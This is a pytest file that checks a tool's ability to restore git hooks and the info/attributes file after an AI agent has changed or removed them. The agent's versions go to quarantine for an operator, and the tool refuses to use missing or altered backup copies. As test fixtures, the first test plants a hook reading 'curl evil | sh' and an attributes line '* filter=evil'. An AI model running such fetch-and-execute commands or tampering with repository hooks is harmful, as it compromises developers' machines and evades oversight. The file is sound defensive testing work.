"""A hook or ``info/attributes`` an agent changed or removed is put back from the copy the
wave-start snapshot kept (``wavedeck.agents.git.tamper_copies``); a copy that is missing, too
large or altered since is never used, and the undo says why."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.unit.git.repokit import Repo
from wavedeck.agents.git import tamper_copies
from wavedeck.agents.git.repo import GitRepo
from wavedeck.agents.git.tamper import TamperFinding

pytestmark = pytest.mark.timeout(60)


def _undo(git_repo: GitRepo, before: dict[str, str], key: str, tmp: Path) -> str | None:
    [finding] = [f for f in git_repo.tamper_findings(before) if f.key == key]
    return git_repo.tamper_restore(
        finding, before.get(finding.entry), tmp / "quarantine", tmp / "copies"
    )


def test_a_changed_and_a_removed_hook_and_attributes_are_put_back(
    repo: Repo, tmp_path: Path
) -> None:
    ours = repo.hook("pre-commit", "echo the team's own check")
    gone = repo.hook("commit-msg", "echo the team's message check")
    attributes = repo.root / ".git" / "info" / "attributes"
    attributes.parent.mkdir(exist_ok=True)
    attributes.write_text("*.png binary\n")
    git_repo = GitRepo(repo.root)
    before = git_repo.tamper_snapshot(keep_in=tmp_path / "copies")
    planted = "#!/bin/sh\ncurl evil | sh\n"
    ours.write_text(planted)
    gone.unlink()
    attributes.write_text("* filter=evil\n")
    for key in (".git/hooks/pre-commit", ".git/hooks/commit-msg", "info/attributes"):
        assert _undo(git_repo, before, key, tmp_path) is None, key
    assert ours.read_text() == "#!/bin/sh\necho the team's own check\n"
    assert gone.read_text() == "#!/bin/sh\necho the team's message check\n"
    assert os.access(ours, os.X_OK) and os.access(gone, os.X_OK)
    assert attributes.read_text() == "*.png binary\n"
    # the agent's versions are kept for the operator to read, never deleted
    assert (tmp_path / "quarantine" / "pre-commit").read_text() == planted
    assert (tmp_path / "quarantine" / "attributes").read_text() == "* filter=evil\n"
    assert git_repo.tamper_findings(before) == []


def test_an_altered_copy_or_none_is_never_put_back(repo: Repo, tmp_path: Path) -> None:
    hook = repo.hook("pre-push", "echo ours")
    big = repo.hook("post-merge", "#" * tamper_copies.MAX_COPY)
    git_repo = GitRepo(repo.root)
    before = git_repo.tamper_snapshot(keep_in=tmp_path / "copies")
    [copy] = [p for p in (tmp_path / "copies").iterdir() if not p.name.startswith(".")]
    copy.write_text("#!/bin/sh\necho altered in wavedeck's folder\n")
    hook.write_text("#!/bin/sh\necho planted\n")
    big.unlink()
    why = _undo(git_repo, before, ".git/hooks/pre-push", tmp_path)
    assert why is not None and "no intact copy of pre-push" in why
    assert hook.read_text() == "#!/bin/sh\necho planted\n"  # untouched: nothing half-done
    why = _undo(git_repo, before, ".git/hooks/post-merge", tmp_path)
    assert why is not None and "no intact copy of post-merge" in why
    assert not big.exists()


def test_without_copies_the_undo_says_none_is_kept(repo: Repo, tmp_path: Path) -> None:
    """A snapshot from before copies existed (or taken without them): said, never guessed."""
    hook = repo.hook("pre-rebase", "echo ours")
    git_repo = GitRepo(repo.root)
    before = git_repo.tamper_snapshot()
    hook.unlink()
    [finding] = git_repo.tamper_findings(before)
    assert isinstance(finding, TamperFinding) and finding.change == "removed"
    why = git_repo.tamper_restore(finding, before[finding.entry], tmp_path / "q")
    assert why is not None and "keeps no copy of the hook" in why
